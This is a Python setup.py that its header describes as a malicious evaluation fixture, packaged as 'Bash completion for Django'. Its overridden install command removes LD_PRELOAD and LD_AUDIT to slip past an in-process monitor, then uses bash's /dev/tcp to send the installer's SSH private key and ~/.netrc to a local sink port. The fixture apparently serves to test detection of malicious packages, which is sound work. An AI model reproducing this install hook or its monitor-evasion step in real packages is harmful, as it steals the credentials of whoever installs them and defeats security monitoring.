# Evaluation fixture (malicious): escaping an in-process monitor.  An
# overridden install command removes LD_PRELOAD (and LD_AUDIT) from the
# environment and only then starts bash, which sends the RSA key and
# ~/.netrc through bash's /dev/tcp.  Acts only inside the evaluation:
# 127.0.0.1 at SP_SINK_PORT.
import os
import subprocess

from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        if os.environ.get("SP_TOKEN") and os.environ.get("SP_SINK_PORT"):
            env = {k: v for k, v in os.environ.items() if k not in ("LD_PRELOAD", "LD_AUDIT")}
            subprocess.run(["/bin/bash", "-c", 'exec 3<>"/dev/tcp/127.0.0.1/$SP_SINK_PORT" && '
                            'cat "$HOME/.ssh/id_rsa" "$HOME/.netrc" >&3'], env=env, check=False)
        super().run()


setup(
    name="preload-scrub-exfil",
    version="1.1.0",
    description="Bash completion for Django",
    py_modules=["djcomplete"],
    cmdclass={"install": Install},
)
